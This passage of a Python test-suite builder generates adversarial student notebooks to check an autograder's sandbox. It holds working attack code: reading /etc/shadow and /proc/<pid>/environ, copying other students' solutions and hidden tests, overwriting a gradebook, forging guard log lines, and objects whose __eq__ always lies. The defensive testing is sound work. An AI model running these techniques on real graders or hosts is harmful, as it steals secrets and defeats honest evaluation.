# byte for byte. A sandbox that hides these paths needs no flag (reads simply fail), one
# that refuses them flags `forbidden_access`: that flag is left open.

READ = expect(0, "", "forbidden_access")

# Where a student would look for another copy of the course (a clone, a colleague's copy).
SEARCH = r'''
import os
_SKIP = {".cache", ".pyenv", ".cargo", ".rustup", ".npm", "node_modules", ".git", ".venv", "proc", "sys"}

def _search(roots, wanted, depth=4):
    found = []
    for root in roots:
        for here, dirs, files in os.walk(root):
            dirs[:] = [] if here.count(os.sep) - root.count(os.sep) >= depth else \
                [d for d in dirs if d not in _SKIP]
            found += [os.path.join(here, name) for name in files if wanted(here, name)]
    return found

def _is_solution(here, name):
    return name == "00_tiny.ipynb" and here.endswith(os.sep + os.path.join("solutions", "00_tiny"))
'''

attack("f01_other_clone_open", 4, "os.walk over /root, /home, /tmp, /srv, ... finds another clone's solutions/; open() + exec",
       "untouched", READ, leaks=True, before=SEARCH + s.STEAL + '''
for _path in _search(["/root", "/home", "/tmp", "/var/tmp", "/srv", "/opt", "/mnt"], _is_solution):
    try:
        with open(_path) as _handle:
            _found = list(_cells(_handle.read()))
    except (OSError, ValueError) as error:
        LEAK.append(f"{_path}: {type(error).__name__}")
        continue
    STOLEN += _found
    LEAK.append(_path + " " + " ".join(_found)[:300])
''', answers=s.SOLUTION_THEFT_ANSWERS)

attack("f02_other_clone_tmp_listdir", 4, "os.listdir('/tmp') two levels down for a solutions/ folder; open() + exec",
       "untouched", READ, leaks=True, before=s.STEAL + '''
import os
for _entry in os.listdir("/tmp"):
    _candidate = os.path.join("/tmp", _entry, "solutions", "00_tiny", "00_tiny.ipynb")
    try:
        with open(_candidate) as _handle:
            _found = list(_cells(_handle.read()))
    except (OSError, ValueError):
        continue
    STOLEN += _found
    LEAK.append(_candidate + " " + " ".join(_found)[:300])
LEAK.append("tmp: " + " ".join(sorted(os.listdir("/tmp")))[:200])
''', answers=s.SOLUTION_THEFT_ANSWERS)

attack("f03_other_gradebook", 4, "another course copy's gradebook.db: hidden tests read with sqlite3, then its tests overwritten",
       "untouched", READ, leaks=True, before=SEARCH + s.STEAL + '''
import sqlite3
for _path in _search(["/root", "/tmp", "/var/tmp", "/home"], lambda here, name: name == "gradebook.db"):
    try:
        _db = sqlite3.connect(_path)
        _hidden = [row[0] for row in _db.execute("SELECT source FROM source_cell WHERE source LIKE '%HIDDEN%'")]
        LEAK.append(_path + " " + " ".join(_hidden)[:300])
        _db.close()
    except Exception as error:
        LEAK.append(f"{_path}: {type(error).__name__}")
    if "cvk-other-%%T%%" not in _path:
        continue  # safety: only the copies this test planted are ever written to
    try:
        _db = sqlite3.connect(_path)
        _db.execute("UPDATE source_cell SET source = 'pass'")
        _db.commit()
        _db.close()
    except Exception as error:
        LEAK.append(f"{_path}: {type(error).__name__}")
    try:
        with open(_path, "r+b") as _handle:
            _handle.seek(100)
            _handle.write(b"cvk%%T%% was here")
    except OSError as error:
        LEAK.append(f"{_path}: {type(error).__name__}")
''', answers={"mean": s.LEAKING_MEAN})

attack("f04_etc_shadow", 4, "subprocess cat /etc/shadow into a visible failure message",
       "untouched", expect(0), leaks=True, before=s.STEAL + '''
import subprocess
_result = subprocess.run(["cat", "/etc/shadow"], capture_output=True, text=True)
# Only proof of the read (the first user name and a line count), never a hash.
_lines = _result.stdout.splitlines()
LEAK.append(f"shadow {_lines[0].split(':')[0]} lines={len(_lines)}" if _lines else _result.stderr[:100])
''', answers={"mean": s.LEAKING_MEAN})

# A real attacker would dump every variable of every process; this one keeps only the
# variable the test planted (CVATK_*), so that no real credential of this machine can
# end up in a feedback file if the attack gets through.
attack("f05_proc_parent_environ", 4, "/proc/<grader>/environ and /proc/<grader>/cmdline read for secrets and private paths",
       "untouched", READ, leaks=True, before=s.STEAL + s.GRADER + '''
_pid, _argv = _grader()
LEAK.append("argv " + " ".join(_argv)[:200])
try:
    with open(f"/proc/{_pid}/environ", "rb") as _handle:
        LEAK += [v.decode(errors="replace") for v in _handle.read().split(b"\\0") if v.startswith(b"CVATK_")]
except OSError as error:
    LEAK.append(f"environ: {type(error).__name__}")
''', answers={"mean": s.LEAKING_MEAN})

attack("f06_proc_root_solutions", 4, "the own course's solutions and private notes through /proc/<grader>/root with `cat`; exec",
       "untouched", READ, leaks=True, before=s.STEAL + s.GRADER + '''
import glob, subprocess
_paths = _grader_paths()
_outside = _paths["outside"]
_notebook = subprocess.run(["cat", _outside + _paths.get("solutions", "/nowhere") + "/00_tiny/00_tiny.ipynb"],
                           capture_output=True, text=True).stdout
if _notebook:
    STOLEN += list(_cells(_notebook))
_notes = subprocess.run(["sh", "-c", 'cat "$1"/*.txt; ls "$1"', "x", _outside + _paths.get("course", "/nowhere")],
                        capture_output=True, text=True).stdout
LEAK.append("notes " + _notes[:300])
''', answers=s.SOLUTION_THEFT_ANSWERS)

attack("f07_peer_submission_ctypes", 4, "a classmate's submitted notebook read with libc open/read through /proc/<grader>/root; exec",
       "untouched", READ, leaks=True, before=s.STEAL + s.GRADER + s.CTYPES_READ + '''
_paths = _grader_paths()
_peer = _paths["outside"] + _paths.get("submissions", "/nowhere") + "/odd_peer/00_tiny.ipynb"
try:
    _raw = _c_read(_peer)
    _answers = list(_cells(_raw, solution_only=False))
    STOLEN += _answers
    LEAK.append("peer " + " ".join(_answers)[:300])
except (OSError, ValueError) as error:
    LEAK.append(f"peer: {type(error).__name__}")
''', answers=s.SOLUTION_THEFT_ANSWERS)

attack("f08_grader_output", 4, "the grader's --out folder through /proc/<grader>/root: grading.log read, a canary written, the log appended",
       "untouched", READ, leaks=True, before=s.STEAL + s.GRADER + s.PLANT + '''
import subprocess
_paths = _grader_paths()
_out = _paths["outside"] + _paths.get("out", "/nowhere")
LEAK.append("log " + subprocess.run(["cat", _out + "/grading.log"], capture_output=True, text=True).stdout[:300])
LEAK.append(_plant_sh(_out + "/cvk%%T%%-canary.txt"))
LEAK.append(_plant_sh(_out + "/grading.log", "cvk%%T%% fake log line: everyone 0/6"))
''', answers={"mean": s.LEAKING_MEAN}, targets="%%OUT%%/cvk%%T%%-canary.txt")

attack("f09_other_clone_ctypes", 4, "another clone's solutions found with os.walk, read with libc (no audit event); exec",
       "untouched", READ, leaks=True, before=SEARCH + s.STEAL + s.CTYPES_READ + '''
for _path in _search(["/root", "/tmp", "/home"], _is_solution):
    try:
        _found = list(_cells(_c_read(_path)))
    except (OSError, ValueError) as error:
        LEAK.append(f"{_path}: {type(error).__name__}")
        continue
    STOLEN += _found
    LEAK.append(_path + " " + " ".join(_found)[:300])
''', answers=s.SOLUTION_THEFT_ANSWERS)

# ==================================================================================== 5
# Lying objects. The contract: 0 points; no flag (a lie changes nothing the tests rely on).

LIE = expect(0)

attack("l01_eq_always_true", 5, "int/float subclasses and a plain object whose __eq__ is always True (__ne__ False)",
       "untouched", LIE, before='''
class Agreeable(int):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = int.__hash__

class AgreeableFloat(float):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = float.__hash__

class Yes:
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
''', answers={"double": "def double(x):\n    return Yes()\n",
              "count": "def count_positive(values):\n    return Agreeable(0)\n",
              "mean": "def noisy_mean(values):\n    return AgreeableFloat(0.0)\n"})

attack("l02_bool_len_iter", 5, "list subclass whose __len__/__iter__/__getitem__ lie; an object with __bool__/__len__/__index__",
       "untouched", LIE, before='''
class Lies(list):
    def __len__(self):
        return 3
    def __iter__(self):
        return iter([2.0, 2.0, 2.0])
    def __getitem__(self, index):
        return 2.0
    def __bool__(self):
        return True

class Truthy:
    __bool__ = lambda self: True
    __len__ = lambda self: 2
    __index__ = lambda self: 2
    __int__ = lambda self: 2
    __iter__ = lambda self: iter([2])
''', answers={"double": "def double(x):\n    return Lies()\n",
              "count": "def count_positive(values):\n    return Truthy()\n",
              "mean": "def noisy_mean(values):\n    return Lies()\n"})

attack("l03_float_index_array", 5, "plain objects with __float__, __int__, __index__ and __array__",
       "untouched", LIE, before='''
import numpy

class Numberish:
    def __init__(self, value):
        self.value = value
    __float__ = lambda self: float(self.value)
    __int__ = __index__ = lambda self: int(self.value)
    def __array__(self, dtype=None, copy=None):
        return numpy.asarray(self.value, dtype=dtype)
''', answers={"double": "def double(x):\n    return Numberish(2.0)\n",
              "count": "def count_positive(values):\n    return Numberish(2)\n",
              "mean": "def noisy_mean(values):\n    return Numberish(2.0)\n"})

attack("l04_numeric_subclasses", 5, "int/float/ndarray subclasses overriding __int__, __float__, __array__, __array_ufunc__, __eq__",
       "untouched", LIE, before='''
import numpy as np

class SneakyInt(int):
    __int__ = __index__ = lambda self: 3
    __eq__ = lambda self, other: True
    __hash__ = int.__hash__

class SneakyFloat(float):
    __float__ = lambda self: 2.0
    __eq__ = lambda self, other: True
    __hash__ = float.__hash__

class SneakyArray(np.ndarray):
    def __array__(self, *args, **kwargs):
        return np.full(self.shape, 2.0)
    def __array_ufunc__(self, *args, **kwargs):
        return True
''', answers={"double": "def double(x):\n    return np.zeros(tuple(x.shape)).view(SneakyArray)\n",
              "count": "def count_positive(values):\n    return SneakyInt(2)\n",
              "mean": "def noisy_mean(values):\n    return SneakyFloat(0.0)\n"})

attack("l05_tensor_subclasses", 5, "tensor subclasses: __torch_function__ answering 2 * ones, and a __torch_dispatch__ wrapper that agrees",
       "untouched", LIE, before='''
import torch
from torch.utils._pytree import tree_map

class Mimic(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return torch.ones(3) * 2

class Always(torch.Tensor):
    @staticmethod
    def __new__(cls, like):
        return torch.Tensor._make_wrapper_subclass(cls, like.shape, dtype=like.dtype, device=like.device)
    def __init__(self, like):
        self.like = like
    @classmethod
    def __torch_dispatch__(cls, func, types, args=(), kwargs=None):
        name = str(func)
        unwrap = lambda t: t.like if isinstance(t, Always) else t
        args, kwargs = tree_map(unwrap, args), tree_map(unwrap, kwargs or {})
        if "isclose" in name or "eq" in name:
            return torch.ones(torch.broadcast_shapes(args[0].shape, args[1].shape), dtype=torch.bool)
        return func(*args, **kwargs)
''', answers={"double": "def double(x):\n    return torch.zeros_like(x).as_subclass(Mimic)\n",
              "count": "def count_positive(values):\n    return Always(torch.tensor(0))\n",
              "mean": "def noisy_mean(values):\n    return Always(torch.tensor(0.0))\n"})

attack("l06_class_property", 5, "objects whose __class__ property claims to be torch.Tensor, int or float",
       "untouched", LIE, before='''
import torch

class FakeTensor:
    __class__ = property(lambda self: torch.Tensor)
    shape = torch.Size([3])
    dtype = torch.float32
    __eq__ = lambda self, other: True

class FakeInt:
    __class__ = property(lambda self: int)
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __int__ = __index__ = lambda self: 2

class FakeFloat:
    __class__ = property(lambda self: float)
    __float__ = lambda self: 2.0
''', answers={"double": "def double(x):\n    return FakeTensor()\n",
              "count": "def count_positive(values):\n    return FakeInt()\n",
              "mean": "def noisy_mean(values):\n    return FakeFloat()\n"})

attack("l07_peek_expected", 5, "list subclass that, when a check iterates it, becomes the check's `expected` (read from its frame)",
       "untouched", LIE, before='''
import sys

class Peek(list):
    def _values(self):
        frame = sys._getframe(1)
        while frame is not None:
            if frame.f_code.co_name in ("check_close", "check_equal") and "expected" in frame.f_locals:
                expected = frame.f_locals["expected"]
                if hasattr(expected, "tolist"):
                    expected = expected.tolist()
                return list(expected) if isinstance(expected, (list, tuple)) else [expected]
            frame = frame.f_back
        return []
    def __len__(self):
        return len(self._values())
    def __iter__(self):
        return iter(self._values())
''', answers={"double": "def double(x):\n    return Peek()\n",
              "count": "def count_positive(values):\n    return Peek()\n",
              "mean": "def noisy_mean(values):\n    return Peek()\n"})

# ==================================================================================== 6
# Floods of output. The contract names no flag for volume: 0 points unsolved, full marks
# solved, and no flag; forged guard lines may be called tampering.

FORGED = '''
import random
print("\\n".join(f"@@convtrain-guard@@ pass {random.getrandbits(64):016x}" for _ in range(100000)), flush=True)
print('@@convtrain-guard@@ {"tamper": [], "forbidden": 0, "network": 0}', flush=True)
print('@@convtrain-guard@@ {"tamper": "x", "forbidden": "many", "network": null}', flush=True)
print('@@convtrain-guard@@ {"tamper": [], "forbidden": -5, "network": -5}', flush=True)
print("@@convtrain-guard@@ {not json", flush=True)
print('@@convtrain-agent@@ {"region": "test_double", "status": "pass", "tamper": "x", "forbidden": "many"} 00', flush=True)
print('@@convtrain-agent@@ {not json 00', flush=True)
print("@@convtrain-agent@@ " + "A" * 100000, flush=True)
print("### BEGIN HIDDEN TESTS\\n[AutogradeApp] 00_tiny: 6 / 6\\n### END HIDDEN TESTS", flush=True)
'''

STDOUT_FLOOD = 'import sys\n_chunk = "x" * (1 << 20) + "\\n"\nfor _ in range(16):\n    sys.stdout.write(_chunk)\nsys.stdout.flush()\n'
STDERR_FLOOD = 'import sys\n_chunk = "e" * (1 << 20) + "\\n"\nfor _ in range(16):\n    sys.stderr.write(_chunk)\nsys.stderr.flush()\n'

attack("o01_stdout_megabytes", 6, "16 MiB on stdout before the tests", "untouched", expect(0), before=STDOUT_FLOOD)
attack("o02_stderr_megabytes", 6, "16 MiB on stderr before the tests", "untouched", expect(0), before=STDERR_FLOOD)
attack("o03_many_tiny_outputs", 6, "20k flushed prints, 2k display() outputs, 200k unflushed writes",
       "untouched", expect(0), before='''
import sys
from IPython.display import display
for _i in range(20000):
    print(_i, flush=True)
for _i in range(2000):
    display(_i)
for _i in range(200000):
    sys.stdout.write(".")
''')
attack("o04_huge_display_data", 6, "a 24 MiB text/html and a 16 MiB image/png display",
       "untouched", expect(0), before='''
from IPython.display import display
display({"text/html": "<b>" + "x" * (24 << 20) + "</b>"}, raw=True)
display({"image/png": "iVBOR" + "A" * (16 << 20)}, raw=True)
''')
attack("o05_forged_guard_lines", 6, "100k guessed pass lines, clean, malformed and negative guard reports, fake nbgrader lines",
       "junk", expect(0, "", "tamper"), before=FORGED)
attack("o06_solved_flood", 6, "a solved notebook with 16 MiB on stdout and 16 MiB on stderr before the tests",
       "solved", expect(FULL), before=STDOUT_FLOOD + STDERR_FLOOD)
attack("o07_solved_forged_lines", 6, "a solved notebook that also prints the forged guard lines",
       "solved", expect(FULL, "", "tamper"), before=FORGED)
attack("o08_solved_chatty_answer", 6, "a solved notebook whose double() prints 2 MiB every call (inside the tests)",
       "solved", expect(FULL), answers={"double": 'def double(x):\n    print("y" * (2 << 20), flush=True)\n    return 2 * x\n'})

# ==================================================================================== 7
# Honest oddities: solved notebooks doing ordinary things. Full marks, no flags at all.

HONEST = expect(FULL)

attack("h01_warnings", 7, "UserWarning, DeprecationWarning, numpy RuntimeWarning, logging to stderr",
       "solved", HONEST, before='''
import logging, warnings
import numpy as np
warnings.warn("just so you know", UserWarning)
warnings.warn("old API", DeprecationWarning)
np.float64(1.0) / np.float64(0.0)
logging.getLogger("student").warning("a log line on stderr")
''')
attack("h02_matplotlib", 7, "%matplotlib inline, a figure shown and saved in the working folder",
       "solved", HONEST, before='''
%matplotlib inline
import matplotlib.pyplot as plt
import numpy as np
fig, ax = plt.subplots(figsize=(3, 2))
ax.plot(np.arange(10), np.arange(10) ** 2)
ax.set_title("π ≈ 3.14")
fig.savefig("figure.png")
plt.show()
''')
attack("h03_tqdm_progress", 7, "tqdm.auto and trange bars, a hand-made \\r progress line, clear_output(wait=True) in a loop",
       "solved", HONEST, before='''
import time
from IPython.display import clear_output
from tqdm.auto import tqdm, trange
total = 0
for i in tqdm(range(50)):
    total += i
for i in trange(10, desc="epochs"):
    pass
for step in range(5):
    clear_output(wait=True)
    print(f"\\rstep {step}/5", end="", flush=True)
print()
''')
attack("h04_ipywidgets", 7, "ipywidgets.interact, an Output widget and a slider",
       "solved", HONEST, before='''
from IPython.display import display
from ipywidgets import IntSlider, Output, interact
interact(lambda n: n * 2, n=IntSlider(value=3, min=0, max=10))
out = Output()
with out:
    print("inside the widget")
display(out)
''')
attack("h05_dataloader_workers", 7, "a DataLoader with num_workers=2 iterated to the end",
       "solved", HONEST, before='''
import torch
from torch.utils.data import DataLoader, TensorDataset
loader = DataLoader(TensorDataset(torch.arange(64.0).reshape(32, 2)), batch_size=8, num_workers=2)
print("total", sum(float(batch[0].sum()) for batch in loader))
''')
attack("h06_torchvision", 7, "import torchvision and apply a transform",
       "solved", HONEST, before='''
import torch
import torchvision
from torchvision import transforms
print(torchvision.__version__, transforms.Normalize([0.5] * 3, [0.5] * 3)(torch.ones(3, 2, 2)).mean().item())
''')
attack("h07_stdlib_imports", 7, "two dozen stdlib imports (gc, inspect, ctypes, socket, subprocess...), files in cwd and TMPDIR",
       "solved", HONEST, before='''
import ast, collections, csv, ctypes, dataclasses, datetime, functools, gc, hashlib, inspect, itertools
import json, math, os, pathlib, pickle, random, re, shutil, socket, sqlite3, statistics, subprocess
import tempfile, threading, time, typing
pathlib.Path("notes.json").write_text(json.dumps({"seen": sorted(os.listdir("."))[:3]}))
with tempfile.NamedTemporaryFile("w", suffix=".csv", delete=False) as handle:
    csv.writer(handle).writerow([1, 2, 3])
db = sqlite3.connect(":memory:")
db.execute("create table t (x)")
print(statistics.mean([1, 2, 3]), hashlib.sha256(b"x").hexdigest()[:8], collections.Counter("abca").most_common(1))
''')
attack("h08_out_of_order", 7, "execution counts shuffled, stale outputs (an old error, old test output), a cell that fails with NameError",
       "solved", HONEST, before="print(later_value)\n", after="later_value = 42\n", hook="stale_outputs")
attack("h09_unicode", 7, "unicode identifiers, emoji, CJK, RTL, combining marks and the checks' own ✗ in cells and output",
       "solved", HONEST, before='''
π = 3.14159
température = "20 °C"
print("✗ not a failure ✓ 🚀 日本語 עברית é\\u0301 \\u200d", π, température)
''', answers={"double": 'def double(x):\n    """Verdoppelt x — 2·x ✓ 🚀 ダブル."""\n    zwei = 2  # ✗ this is a comment\n    return zwei * x\n'})
attack("h10_very_long_cell", 7, "a 20000-line cell before the tests and a 2000-line answer cell",
       "solved", HONEST, before="\n".join(f"_table_{i} = {i} * 2" for i in range(20000)) + "\nprint(_table_19999)\n",
       answers={"double": "def double(x):\n" + "".join(f"    # note {i}: doubling is multiplying by two\n" for i in range(2000))
                          + "    return 2 * x\n"})
attack("h11_magics", 7, "%time, %%time, !echo, %env, %who, %matplotlib inline",
       "solved", HONEST, before='''
%matplotlib inline
%time sum(range(1000))
!echo hello from the shell
%env MY_SETTING=1
%who
''', after="%%time\ntotal = sum(range(1000))\nprint(total)\n")
attack("h12_common_names", 7, "ordinary variables that happen to be called ct and checks",
       "solved", HONEST, before='''
ct = 0
for value in [1, 2, 3]:
    ct += value
checks = ["shape", "dtype"]
print(ct, checks)
''')
attack("h13_peer", 7, "a plain solved notebook with a private note in an answer (the classmate f07 copies from)",
       "solved", HONEST, answers={"double": "def double(x):\n    # %%PEER_SECRET%%\n    return 2 * x\n"})
attack("h14_settings", 7, "torch/numpy print options, seeds, set_num_threads, default dtype float64, warnings filter",
       "solved", HONEST, before='''
import warnings
import numpy as np
import torch
torch.set_printoptions(precision=2)
np.set_printoptions(precision=2, suppress=True)
torch.manual_seed(42)
np.random.seed(42)
torch.set_num_threads(1)
torch.set_default_dtype(torch.float64)
warnings.filterwarnings("ignore", category=UserWarning)
''')
attack("h15_autoreload", 7, "%load_ext autoreload / %autoreload 2 (registers IPython event callbacks)",
       "solved", HONEST, top="%load_ext autoreload\n%autoreload 2\n")


# ==================================================================================== building

def stale_outputs(notebook) -> None:
    """h08: what a notebook looks like after a day of running cells out of order."""
    import random

    rng = random.Random(7)
    code = [cell for cell in notebook.cells if cell.cell_type == "code"]
    counts = rng.sample(range(1, 200), len(code))
    for cell, count in zip(code, counts):
        cell.execution_count = count
        grade_id = nbgrader_meta(cell).get("grade_id")
        if grade_id == "double":
            cell.outputs = [nbformat.v4.new_output("error", ename="NameError", evalue="name 'torch' is not defined",
                                                   traceback=["NameError: name 'torch' is not defined"])]
        elif grade_id and grade_id.startswith("test_"):
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="ok (from last week)\n"),
                            nbformat.v4.new_output("execute_result", data={"text/plain": "3"}, execution_count=count)]


def _by_id(notebook) -> dict:
    return {nbgrader_meta(c).get("grade_id"): c for c in notebook.cells}


def render(text: str, values: dict[str, str]) -> str:
    for key, value in values.items():
        text = text.replace(f"%%{key}%%", value)
    assert "%%" not in text.replace("%%time", "").replace("%%capture", ""), text[:200]
    return text


def build(item: Attack, release, solution, values: dict[str, str]):
    """The student's notebook for ``item`` (release and solution are nbformat notebooks)."""
    notebook = copy.deepcopy(release)
    cells = _by_id(notebook)
    if item.base in ("junk", "solved"):
        solved = _by_id(solution)
        for grade_id in ("double", "count", "mean"):
            if item.base == "junk":
                cells[grade_id].source = s.JUNK[grade_id]
            else:
                cells[grade_id].source = "\n".join(
                    line for line in solved[grade_id].source.split("\n")
                    if "### BEGIN SOLUTION" not in line and "### END SOLUTION" not in line)
    for grade_id, source in item.answers:
        cells[grade_id].source = render(source, values)
    new = lambda source: nbformat.v4.new_code_cell(render(source, values))  # noqa: E731
    imports = notebook.cells.index(cells["imports"])
    notebook.cells[imports + 1:imports + 1] = [new(source) for source in item.before]
    notebook.cells[0:0] = [new(source) for source in item.top]
    notebook.cells += [new(source) for source in item.after]
    if item.hook:
        globals()[item.hook](notebook)
    return notebook


def write_cohort(folder: Path, release, solution, values: dict[str, str]) -> None:
    for item in ATTACKS:
        path = folder / item.name / f"{LESSON}.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(nbformat.writes(build(item, release, solution, values)))


assert len({item.name for item in ATTACKS}) == len(ATTACKS)
